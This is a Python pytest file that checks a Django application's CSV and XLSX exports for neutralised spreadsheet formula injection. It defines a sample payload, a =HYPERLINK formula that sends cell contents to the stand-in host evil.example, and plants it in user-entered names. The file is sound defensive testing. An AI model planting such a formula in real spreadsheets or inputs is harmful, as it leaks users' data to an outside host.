"""Every CSV and XLSX download neutralises a cell that a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Callable

import openpyxl
import pytest
from django.test import Client

from luoshi.decomposition.models import PlanTask
from luoshi.lib.tabular import is_formula_like
from luoshi.site.demo import DemoSummary
from luoshi.tasks.models import Indicator, Task
from luoshi.testing.demo import lead_assignment
from luoshi.units.models import Unit

EVIL = '=HYPERLINK("http://evil.example/?x="&A2,"点击查看")'


def _csv_cells(response: object) -> list[str]:
    streaming = getattr(response, "streaming", False)
    content = b"".join(response.streaming_content) if streaming else response.content  # type: ignore[attr-defined]
    text = content.decode("utf-8")
    assert text.startswith("\ufeff"), "the CSV keeps its BOM"
    return [cell for row in csv.reader(io.StringIO(text[1:])) for cell in row]


def _assert_csv_guarded(cells: list[str]) -> None:
    live = [c for c in cells if is_formula_like(c)]
    assert not live, f"formula-like cells left as they are: {live[:3]}"


def _assert_xlsx_guarded(content: bytes) -> list[str]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    texts: list[str] = []
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    if is_formula_like(cell.value):
                        assert cell.quotePrefix, f"{ws.title}!{cell.coordinate} is not quoted text"
    return texts


@pytest.fixture
def poisoned(demo: DemoSummary) -> DemoSummary:
    """Names typed by users, each a formula: a login name, a unit, a task, an indicator, the division's tasks."""
    Client().post("/accounts/login/", {"username": EVIL, "password": "wrong-password"})
    lead = lead_assignment("energy")
    Unit.objects.filter(pk=lead.unit_id).update(name=EVIL)
    Task.objects.filter(pk=lead.task_id).update(title=EVIL)
    Indicator.objects.create(
        task=lead.task,
        name=EVIL,
        unit_of_measure="-1",
        baseline=-5,
        target=10,
        baseline_date=dt.date(2026, 1, 1),
        target_date=dt.date(2026, 12, 31),
    )
    PlanTask.objects.filter(plan=demo.plan).update(title=EVIL)
    return demo


def test_an_anonymous_login_name_lands_neutralised_in_the_audit_csv(login: Callable[[str], Client]) -> None:
    Client().post("/accounts/login/", {"username": EVIL, "password": "wrong-password"})
    cells = _csv_cells(login("duchashi").get("/audit.csv"))
    assert "'" + EVIL in cells and EVIL not in cells
    _assert_csv_guarded(cells)


CSV_EXPORTS: list[tuple[str, bool]] = [
    # (url, whether it shows one of the poisoned names)
    ("/dashboard/rag.csv", False),
    ("/dashboard/units.csv", True),
    ("/dashboard/overdue.csv", False),
    ("/dashboard/tasks.csv", True),
    ("/dashboard/trend.csv", False),
    ("/tasks/{task}/trajectory.csv", True),
    ("/tasks/{task}/indicators.csv", True),
    ("/audit.csv", True),
]
XLSX_EXPORTS = [
    "/bulletins/download?period=2026-Q3&format=xlsx",
    "/bulletins/ledger.xlsx?document={document}&as_of=2026-11-26",
    "POST /plans/{plan}/plan.xlsx",  # a POST: the export is recorded in the audit trail
]


def _url(template: str, demo: DemoSummary) -> str:
    return template.format(
        task=lead_assignment("energy").task_id, document=demo.document.pk, plan=demo.plan.pk
    )


@pytest.mark.parametrize(("template", "shows_names"), CSV_EXPORTS)
def test_every_csv_export_neutralises_formulas(
    template: str, shows_names: bool, poisoned: DemoSummary, login: Callable[[str], Client]
) -> None:
    response = login("duchashi").get(_url(template, poisoned))
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    cells = _csv_cells(response)
    _assert_csv_guarded(cells)
    if shows_names:
        assert any(c.startswith("'=HYPERLINK(") for c in cells)


@pytest.mark.parametrize("template", XLSX_EXPORTS)
def test_every_xlsx_export_keeps_formulas_as_quoted_text(
    template: str, poisoned: DemoSummary, login: Callable[[str], Client]
) -> None:
    client = login("duchashi")
    method, _, template = template.rpartition(" ")
    response = (client.post if method == "POST" else client.get)(_url(template, poisoned))
    assert response.status_code == 200
    texts = _assert_xlsx_guarded(response.content)
    assert EVIL in texts  # shown as typed, not with an apostrophe added


def test_a_negative_number_stays_a_number(poisoned: DemoSummary, login: Callable[[str], Client]) -> None:
    rows = list(
        csv.reader(
            io.StringIO(
                login("duchashi")
                .get(_url("/tasks/{task}/indicators.csv", poisoned))
                .content.decode("utf-8-sig")
            )
        )
    )
    assert rows[1][0] == "'" + EVIL and rows[1][1] == "-1"
